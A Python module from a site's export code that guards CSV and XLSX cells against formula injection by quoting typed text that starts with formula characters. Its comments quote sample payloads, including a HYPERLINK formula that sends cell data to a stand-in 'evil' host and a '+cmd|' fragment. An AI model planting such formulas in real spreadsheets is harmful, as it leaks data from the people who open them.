"""What every spreadsheet and CSV the site writes shares: the workbook MIME type and the escaping of typed text.

One escaping function for every writer (the CSV export, the recap workbook, the IKM workbook, the booking
and complaint exports): text a person typed is never written where a spreadsheet would run it as a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: what makes Excel or LibreOffice read a cell as a formula (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def spreadsheet_text(value: Any) -> Any:
    """``value`` safe to put in a CSV or XLSX cell: text that a spreadsheet would run gets a leading quote.

    Names typed by staff (a clerk's full name, a kiosk code, a closing reason) and visitors (survey comments,
    complaints) end up in exports that an office opens in a spreadsheet; ``=HYPERLINK("http://evil/"&A1)``
    there would run as a formula. The quote is what spreadsheets themselves use to mean "this is text";
    numbers are left alone.
    """
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_chunks(header: Iterable[str], rows: Iterable[Iterable[Any]], *, every: int = 1000) -> Iterator[str]:
    """A CSV document in pieces of ``every`` rows (for a streamed answer), every cell escaped with
    :func:`spreadsheet_text`: the one way the site writes a CSV."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([spreadsheet_text(v) for v in header])
    for i, row in enumerate(rows):
        writer.writerow([spreadsheet_text(v) for v in row])
        if i % every == every - 1:
            yield buf.getvalue()
            buf.seek(0)
            buf.truncate()
    yield buf.getvalue()
